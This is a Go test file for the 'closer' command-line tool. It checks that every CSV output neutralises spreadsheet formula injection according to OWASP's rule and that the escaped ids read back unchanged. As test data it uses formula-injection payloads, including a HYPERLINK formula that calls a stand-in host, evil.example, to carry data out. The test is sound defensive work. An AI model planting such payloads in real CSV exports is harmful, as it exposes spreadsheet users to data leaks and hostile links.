package main

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode"

	"github.com/closer-lab/closer/internal/csvsafe"
	"github.com/closer-lab/closer/internal/triplet"
)

// spreadsheetWouldRun is the test's own reading of OWASP's rule, written
// apart from csvsafe so that a bug there cannot hide here: a cell runs as
// a formula when it starts with a tab or a carriage return, or when its
// first character after white space is a formula sign, unless the whole
// cell is a number.
func spreadsheetWouldRun(cell string) bool {
	if strings.HasPrefix(cell, "\t") || strings.HasPrefix(cell, "\r") {
		return true
	}
	if _, err := strconv.ParseFloat(cell, 64); err == nil {
		return false
	}
	rest := []rune(strings.TrimLeftFunc(cell, unicode.IsSpace))
	return len(rest) > 0 && strings.ContainsRune("=+-@＝＋－＠", rest[0])
}

// readSafeCSV parses a CSV and fails for every cell a spreadsheet would run.
func readSafeCSV(t *testing.T, name string, data []byte) [][]string {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	for i, rec := range recs {
		for j, cell := range rec {
			if spreadsheetWouldRun(cell) {
				t.Errorf("%s line %d column %d: %q would run as a formula", name, i+1, j+1, cell)
			}
		}
	}
	return recs
}

// Item ids that are formulas go through every CLI output neutralised
// (numbers untouched), and every CLI input that closer wrote reads them
// back as they were: embed → eval (--in, --truth, --labels), kernel
// (matrix, PCA, clusters), simulate --coords with landmarks named by id.
func TestCLIOutputsNeutraliseFormulas(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	ids := []string{`=HYPERLINK("http://evil.example/?x=","click")`, "=1+1", "+SUM(1,2)", "@SUM(1)", "-2+3",
		"＝1", " =2", "'=3", "-0.5", "p9", "p10", "p11"}
	n := len(ids)
	rng := triplet.NewRand(5)
	x := triplet.Gaussian(rng, n, 2, 1)
	ts := triplet.RandomTriplets(rng, triplet.NewOracle(x, 0, 6), 1200)
	var tb, pb, lb bytes.Buffer
	if err := triplet.WriteCSV(&tb, ids, ts); err != nil {
		t.Fatal(err)
	}
	readSafeCSV(t, "triplets written by triplet.WriteCSV", tb.Bytes())
	if err := triplet.WritePoints(&pb, ids, x); err != nil {
		t.Fatal(err)
	}
	lw := csvsafe.NewWriter(&lb)
	if err := lw.Write([]string{"item", "label"}); err != nil {
		t.Fatal(err)
	}
	for i, id := range ids {
		if err := lw.Write([]string{id, []string{"=left", "-right"}[i%2]}); err != nil {
			t.Fatal(err)
		}
	}
	lw.Flush()
	in, truth, labels := filepath.Join(dir, "t.csv"), filepath.Join(dir, "truth.csv"), filepath.Join(dir, "labels.csv")
	for path, data := range map[string][]byte{in: tb.Bytes(), truth: pb.Bytes(), labels: lb.Bytes()} {
		if err := os.WriteFile(path, data, 0o644); err != nil {
			t.Fatal(err)
		}
	}

	cli := func(args ...string) string {
		t.Helper()
		var out, errb bytes.Buffer
		if code := run(t.Context(), args, &out, &errb); code != 0 {
			t.Fatalf("closer %s: exit %d: %s", strings.Join(args, " "), code, errb.String())
		}
		return out.String()
	}
	// file reads an output and checks its cells; the first column (after
	// the header) must read back as the ids, the rest be numbers.
	file := func(name string, numeric bool) [][]string {
		t.Helper()
		data, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		recs := readSafeCSV(t, name, data)
		var got []string
		for _, r := range recs[1:] {
			got = append(got, csvsafe.Unescape(r[0]))
			for _, cell := range r[1:] {
				if _, err := strconv.ParseFloat(cell, 64); numeric && err != nil {
					t.Errorf("%s: %q is not a number", name, cell)
				}
			}
		}
		if !slices.Equal(slices.Sorted(slices.Values(got)), slices.Sorted(slices.Values(ids))) {
			t.Errorf("%s: ids read back as %q, want %q", name, got, ids)
		}
		return recs
	}

	cli("embed", "--method", "ste", "--dim", "2", "--in", in, "--out", filepath.Join(dir, "e.csv"), "--quiet")
	emb := file("e.csv", true)
	if !slices.ContainsFunc(emb, func(r []string) bool { return r[0] == "-0.5" }) {
		t.Errorf("e.csv: the numeric id -0.5 was changed")
	}
	out := cli("eval", "--embedding", filepath.Join(dir, "e.csv"), "--in", in, "--truth", truth, "--labels", labels)
	if e := field(t, out, "triplet error "); e > 0.1 {
		t.Errorf("triplet error %g: the embedding's ids were not matched to the triplets'", e)
	}
	field(t, out, "leave-one-out 1-NN error ")
	cli("embed", "--method", "ste", "--dim", "2", "--in", in, "--init", filepath.Join(dir, "e.csv"), "--out", filepath.Join(dir, "e2.csv"), "--quiet")
	file("e2.csv", true)

	cli("kernel", "--in", in, "--out", filepath.Join(dir, "m.csv"))
	m := file("m.csv", true)
	head := m[0][1:]
	for i := range head {
		head[i] = csvsafe.Unescape(head[i])
	}
	if !slices.Equal(head, slices.Sorted(slices.Values(ids))) {
		t.Errorf("m.csv header %q, want the ids in string order", head)
	}
	cli("kernel", "--in", in, "--out", filepath.Join(dir, "p.csv"), "--pca", "2")
	file("p.csv", true)
	cli("kernel", "--in", in, "--out", filepath.Join(dir, "c.csv"), "--clusters", "2")
	file("c.csv", true)

	out = cli("simulate", "--coords", filepath.Join(dir, "e.csv"), "--landmarks", "=1+1,@SUM(1),-2+3",
		"--budget", "60", "--checkpoints", "2", "--csv")
	if recs := readSafeCSV(t, "simulate --csv", []byte(out)); len(recs) != 3 {
		t.Errorf("simulate --csv: %d rows, want a header and 2 checkpoints", len(recs))
	}
}
